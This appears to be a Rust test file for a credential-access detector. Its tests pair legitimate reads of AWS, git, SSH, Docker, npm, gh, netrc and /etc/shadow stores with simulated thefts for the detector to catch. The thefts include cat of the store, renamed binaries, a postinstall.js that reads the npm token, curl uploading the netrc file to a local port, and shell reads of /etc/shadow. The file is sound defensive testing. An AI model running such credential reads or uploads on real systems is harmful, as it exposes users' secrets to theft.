//! Real programs that read their own stores: nothing is found, and the read was seen. Beside each, a thief who goes for
//! the same file, so that silence is not blindness.

use std::{
    fs,
    io::{Read, Write},
    net::TcpListener,
    path::{Path, PathBuf},
    process::Command,
    thread,
};

use tokenhound_tests::{
    finding::Finding,
    process,
    scene::{Act, Scene},
    skip,
    stage::{Stage, set_mode},
    store::Store,
};

/// `cat` goes for it too.
fn cat(scene: &Scene<'_>, store: Store) -> Act {
    scene.theft("cat", store, r#"exec cat "$STORE""#).reader(skip::program("cat").unwrap())
}

pub(crate) fn in_venv(program: &str) -> Option<PathBuf> {
    let path = std::env::var_os("TOKENHOUND_VENV").map(|venv| Path::new(&venv).join("bin").join(program));
    path.filter(|path| path.exists())
}

#[test]
fn aws() {
    let Some(aws) = in_venv("aws") else { return skip::skip("the AWS CLI is not here") };
    let python = in_venv("python").unwrap();
    let stage = Stage::new();
    let mut scene = Scene::new(&stage);
    let store = Store::AwsCredentials;
    for (name, arguments) in [("list", "configure list"), ("get", "configure get aws_access_key_id")] {
        let act = scene.innocent(name, store, &format!("exec {} {arguments}", aws.display()));
        scene.add(act.reader(&python));
    }
    scene.add(cat(&scene, store));
    // The same program under another name is another program.
    let copy = stage.executable("homes/copy/awz", fs::read(&aws).unwrap());
    let act = scene.theft("copy", store, r#"exec "$HOME/awz" configure list"#);
    scene.add(act.reader(&python).script(copy));
    // So is its interpreter with other code.
    let act = scene.theft("module", store, &format!("exec {} -c 'open(\"'$STORE'\").read()'", python.display()));
    scene.add(act.reader(&python).script("inline"));
    scene.play();
}

#[test]
fn git() {
    let fill = r#"printf 'protocol=https\nhost=git.invalid\n\n' >"$HOME/asked"
        export GIT_TERMINAL_PROMPT=0; exec git -c credential.helper=store credential fill <"$HOME/asked" >/dev/null"#;
    if !skip::has(&["git", "/usr/bin/dash"]) {
        return;
    }
    let stage = Stage::new();
    let mut scene = Scene::new(&stage);
    let exec = process::run(Command::new("git").arg("--exec-path"), b"");
    let exec_path = exec.out();
    let helper = Path::new(exec_path.trim_end()).join("git-credential-store");
    if !helper.exists() {
        return skip::skip("git's credential-store is not here");
    }
    scene.add(scene.innocent("git", Store::GitCredentials, fill).reader(skip::program("git").unwrap()));
    scene.add(cat(&scene, Store::GitCredentials));
    // A copy under another name.
    let copy = stage.program("credentials", &fs::canonicalize(&helper).unwrap());
    let act = scene.theft("copy", Store::GitCredentials, r#"exec "$STAGE/bin/credentials" hash-object "$STORE""#);
    scene.add(act.reader(copy));
    scene.play();
}

#[test]
fn ssh() {
    if !skip::has(&["ssh-keygen", "ssh-add", "ssh-agent"]) {
        return;
    }
    let stage = Stage::new();
    let mut scene = Scene::new(&stage);
    let keygen = scene.innocent("keygen", Store::SshKey, r#"exec ssh-keygen -y -f "$STORE""#);
    let add = scene.innocent("add", Store::SshKey, r#"exec ssh-agent ssh-add "$STORE""#);
    scene.add(keygen.reader(skip::program("ssh-keygen").unwrap()));
    scene.add(add.reader(skip::program("ssh-add").unwrap()));
    scene.add(cat(&scene, Store::SshKey));
    for act in ["keygen", "add", "cat"] {
        let key = scene.home(act).join(Store::SshKey.place());
        fs::remove_file(&key).unwrap();
        let mut keygen = Command::new("ssh-keygen");
        let made = process::run(keygen.args(["-q", "-t", "ed25519", "-N", "", "-C", "made-up", "-f"]).arg(&key), b"");
        assert_eq!(made.code(), 0, "{}", made.err());
        // The first line of the key's text is the same in all keys.
        let text = fs::read_to_string(&key).unwrap();
        text.lines().filter(|line| !line.starts_with('-')).skip(1).for_each(|line| stage.hide(line));
    }
    scene.play();
}

#[test]
fn docker() {
    if !skip::has(&["docker"]) {
        return;
    }
    let stage = Stage::new();
    let mut scene = Scene::new(&stage);
    let logout = scene.innocent("logout", Store::DockerConfig, "exec docker logout registry.invalid");
    scene.add(logout.reader(skip::program("docker").unwrap()));
    scene.add(cat(&scene, Store::DockerConfig));
    scene.play();
}

#[test]
fn npm() {
    if !skip::has(&["npm", "node"]) {
        return;
    }
    let stage = Stage::new();
    let mut scene = Scene::new(&stage);
    let node = skip::program("node").unwrap();
    let config = scene.innocent("config", Store::Npmrc, "exec npm config get registry");
    scene.add(config.reader(&node));
    // Nobody listens there: npm reads its token, fails to send it, and says so.
    let whoami = "exec npm whoami --registry=http://127.0.0.1:9 --fetch-retries=0";
    scene.add(scene.innocent("whoami", Store::Npmrc, whoami).reader(&node).ends_with(1));
    scene.add(cat(&scene, Store::Npmrc));
    let script = stage.file("homes/script/postinstall.js", "require('fs').readFileSync(process.env.STORE)\n");
    let act = scene.theft("script", Store::Npmrc, r#"exec node "$HOME/postinstall.js""#);
    scene.add(act.reader(&node).script(script));
    scene.play();
}

#[test]
fn gh() {
    if !skip::has(&["gh"]) {
        return;
    }
    let stage = Stage::new();
    let mut scene = Scene::new(&stage);
    let gh = skip::program("gh").unwrap();
    for (name, script) in
        [("token", "exec gh auth token >/dev/null"), ("config", "exec gh config get git_protocol -h github.com")]
    {
        scene.add(scene.innocent(name, Store::GhHosts, script).reader(&gh));
    }
    scene.add(cat(&scene, Store::GhHosts));
    scene.play();
}

/// Curl sends a file as readily as it logs in with it: the arguments tell.
#[test]
fn curl() {
    if !skip::has(&["curl"]) {
        return;
    }
    let stage = Stage::new();
    let mut scene = Scene::new(&stage);
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    let server = thread::spawn(move || {
        let (mut client, _) = listener.accept().unwrap();
        let mut request = [0; 4096];
        let length = client.read(&mut request).unwrap();
        client.write_all(b"HTTP/1.0 200 OK\r\nContent-Length: 0\r\n\r\n").unwrap();
        String::from_utf8_lossy(&request[..length]).contains("Authorization: Basic")
    });
    let act = scene.innocent("netrc", Store::Netrc, &format!("exec curl --silent --netrc http://{address}/"));
    scene.add(act.reader(skip::program("curl").unwrap()));
    scene.add(cat(&scene, Store::Netrc));
    // The same program, sending the file itself.
    let act = scene.theft("upload", Store::Netrc, r#"exec curl --silent "file://$STORE""#);
    scene.add(act.reader(skip::program("curl").unwrap()));
    // As if to log in, and among other options with the file.
    let act =
        scene.theft("send", Store::Netrc, r#"curl --silent --max-time 1 -nsT "$STORE" http://127.0.0.1:9/; exit 0"#);
    scene.add(act.reader(skip::program("curl").unwrap()).below(&["dash"]));
    let watched = scene.play();
    // The file is also a store of others, to whom it is only that.
    let told = |finding: &&Finding| finding.mentions("curl only moves or shows bytes, for whoever runs it");
    assert_eq!(watched.findings.iter().filter(told).count(), 2, "{}", watched.story());
    let told = |finding: &&Finding| finding.mentions("with these arguments it could send any file elsewhere");
    assert_eq!(watched.findings.iter().filter(told).count(), 1, "{}", watched.story());
    assert!(server.join().unwrap(), "curl sent no password, so it read none");
}

/// Not on the stage but the machine's own: read, never changed.
#[test]
fn shadow() {
    if !skip::has(&["su"]) {
        return;
    }
    let shadow = Path::new("/etc/shadow");
    if !shadow.exists() {
        return skip::skip("there is no /etc/shadow");
    }
    let stage = Stage::new();
    let mut scene = Scene::new(&stage);
    scene.add(scene.nothing("su", None, "exec su -s /bin/sh -c true nobody"));
    let (dash, cat) = (skip::program("dash").unwrap(), skip::program("cat").unwrap());
    let act = scene.other_theft("cat", r#"exec dash -c 'cat /etc/shadow; :' "$HOME/""#);
    scene.add(act.reader(cat).below(&["dash"]));
    let act = scene.other_theft("shell", r#"exec dash -c 'while read -r line; do :; done </etc/shadow' "$HOME/""#);
    scene.add(act.reader(dash).script("inline"));
    let watched = scene.play();
    assert!(watched.reads("etc-shadow", "su", "expected") > 0, "{}", watched.story());
}

/// What a program's own directory says does not matter: only who can write it.
#[test]
fn a_store_and_its_directory_may_have_odd_modes() {
    let stage = Stage::new();
    let mut scene = Scene::new(&stage);
    let gh = crate::actor(&stage, "gh");
    scene.add(scene.innocent("open", Store::GhHosts, r#"exec "$STAGE/bin/gh""#).reader(gh));
    scene.add(cat(&scene, Store::GhHosts));
    set_mode(&scene.home("open").join(Store::GhHosts.place()), 0o644);
    set_mode(&scene.home("cat").join(Store::GhHosts.place()), 0o400);
    scene.play();
}
